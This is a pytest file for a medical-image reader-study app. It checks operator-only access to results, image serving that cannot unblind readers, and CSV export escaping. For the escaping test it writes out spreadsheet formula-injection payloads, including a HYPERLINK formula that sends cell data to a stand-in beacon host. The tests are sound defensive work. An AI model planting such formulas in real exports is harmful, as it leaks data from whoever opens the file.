"""The reader study cannot be unblinded (issue 14, defect 3).

* the summary and the CSV export (the true class of every answer) answer the operator only: anonymous or wrong
  calls are refused, and with no operator secret set at launch both are off, with how to turn them on;
* real and synthetic images are served the same way: same PNG settings and size, a fresh random name and new
  bytes every time an image is shown, so that no URL comes back in another session;
* a CSV cell cannot run as a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
import re
import struct

import gradio as gr
import httpx
import numpy as np
import pytest
from gradio_client import Client
from gradio_client.exceptions import AppError
from PIL import Image

from codixr.app.config import AppConfig
from codixr.app.reader_study import ReaderAnswer, ReaderItem, ReaderSession, ReaderStudyStore
from codixr.app.runtime import ModelService, TempStore
from codixr.app.ui import build_app
from tests.app.fixtures import OPERATOR_SECRET

SESSIONS = 3


def _png_chunks(data: bytes) -> list[str]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    chunks, offset = [], 8
    while offset < len(data):
        length, kind = struct.unpack(">I4s", data[offset:offset + 8])
        chunks.append(kind.decode("ascii"))
        offset += 12 + length
    return chunks


# --------------------------------------------------------------------------------------------- operator only
@pytest.mark.parametrize("api_name", ["/reader_summary", "/reader_export"])
def test_summary_and_export_refuse_anonymous_and_wrong_callers(client, api_name):
    with pytest.raises(AppError, match="operator secret"):
        client.predict("", api_name=api_name)  # an anonymous API caller
    with pytest.raises(AppError, match="operator secret"):
        client.predict(OPERATOR_SECRET[:-1] + "x", api_name=api_name)
    with pytest.raises(AppError, match="operator secret"):
        client.predict(OPERATOR_SECRET + " ", api_name=api_name)
    assert client.predict(OPERATOR_SECRET, api_name=api_name)  # the operator


def test_without_an_operator_secret_summary_and_export_are_off(tmp_path):
    demo = build_app(AppConfig(examples_dir=tmp_path / "none", reader_db=tmp_path / "reader.sqlite"),
                     ModelService(), TempStore(tmp_path / "temp"))
    handlers = {fn.api_name: fn.fn for fn in demo.fns.values()}
    for name in ("reader_summary", "reader_export"):
        for given in ("", "anything at all", None):
            with pytest.raises(gr.Error, match="--operator-secret") as refused:
                handlers[name](given)
            assert "CODIXR_OPERATOR_SECRET" in refused.value.message and "turned off" in refused.value.message


# --------------------------------------------------------------------------------------------- CSV cells
def test_export_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
    store = ReaderStudyStore(tmp_path / "reader.sqlite")
    codes = ['=HYPERLINK("http://beacon.invalid/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
             "R1"]
    for i, code in enumerate(codes):
        store.record(ReaderAnswer("=session", i, "real", "synthetic", 5, "frontal", "-ref", "=model", 1.5, code))
    rows = list(csv.reader(store.export_csv(tmp_path / "answers.csv").open(newline="", encoding="utf-8")))
    header, body = rows[0], rows[1:]
    reader = [row[header.index("reader")] for row in body]
    assert reader == ["'" + code for code in codes[:-1]] + ["R1"]
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert row[header.index("session_id")] == "'=session" and row[header.index("model")] == "'=model"
        assert row[header.index("truth")] == "real"  # ordinary cells are untouched


def test_a_formula_typed_as_reader_code_is_stored_but_exported_as_text(tmp_path):
    store = ReaderStudyStore(tmp_path / "reader.sqlite")
    session = ReaderSession("s", [ReaderItem("real", "frontal", "r", np.zeros((8, 8), np.uint8))], "tiny")
    session.answer(store, 5, "real", reader='  =HYPERLINK("http://beacon.invalid","x")  ')
    assert store.answers()[0]["reader"] == '=HYPERLINK("http://beacon.invalid","x")'
    exported = list(csv.DictReader(store.export_csv(tmp_path / "a.csv").open(newline="", encoding="utf-8")))
    assert exported[0]["reader"] == '\'=HYPERLINK("http://beacon.invalid","x")'


# --------------------------------------------------------------------------------------------- images
def test_presentation_png_size_depends_on_the_shape_only(tmp_path):
    from codixr.app.reader_study import presentation_png

    rng = np.random.default_rng(0)
    noisy = rng.integers(0, 256, (256, 256), dtype=np.uint8)  # incompressible, like a sharp real image
    flat = np.full((256, 256), 128, np.uint8)  # as compressible as a blurry synthetic one can be
    smooth = np.tile(np.linspace(0, 255, 256).astype(np.uint8), (256, 1))
    paths = [presentation_png(image, tmp_path) for image in (noisy, flat, smooth, flat)]
    sizes = {p.stat().st_size for p in paths}
    assert len(sizes) == 1, sizes
    assert len({p.name for p in paths}) == 4 and all(re.fullmatch(r"[0-9a-f]{32}\.png", p.name) for p in paths)
    assert paths[1].read_bytes() != paths[3].read_bytes()  # the same image shown twice: new bytes
    for path in paths:
        assert set(_png_chunks(path.read_bytes())) == {"IHDR", "IDAT", "IEND"}  # no metadata
    shown = np.asarray(Image.open(paths[1]))
    assert shown.dtype == np.uint8 and np.abs(shown.astype(int) - 128).max() <= 1  # the dither is invisible


def test_real_and_synthetic_images_are_served_alike_and_never_at_the_same_url(studio):
    """Several sessions through the app: every image URL is new, every served PNG has the same size."""
    client = Client(studio.url, analytics_enabled=False, verbose=False, download_files=False)
    urls: list[str] = []
    for _ in range(SESSIONS):
        image, position, _ = client.predict(api_name="/reader_start")
        urls.append(image["url"])
        n = int(re.search(r"of (\d+)", position).group(1))
        for _ in range(n - 1):
            image, _, _ = client.predict(5, "real", "", api_name="/reader_answer")
            urls.append(image["url"])
        assert client.predict(5, "real", "", api_name="/reader_answer")[0] is None  # session finished
    assert len(urls) == SESSIONS * n and len(set(urls)) == len(urls), "an image came back at the same URL"
    names = [url.rsplit("/", 1)[-1] for url in urls]
    assert all(re.fullmatch(r"[0-9a-f]{32}\.png", name) for name in names), names
    with httpx.Client(timeout=30) as http:
        served = [http.get(url if url.startswith("http") else studio.url.rstrip("/") + url).content for url in urls]
    sizes = {len(data) for data in served}
    assert len(sizes) == 1, f"served PNG sizes differ: {sorted(sizes)}"
    assert {kind for data in served for kind in _png_chunks(data)} == {"IHDR", "IDAT", "IEND"}
    assert {Image.open(io.BytesIO(data)).size for data in served} == {(64, 64)}
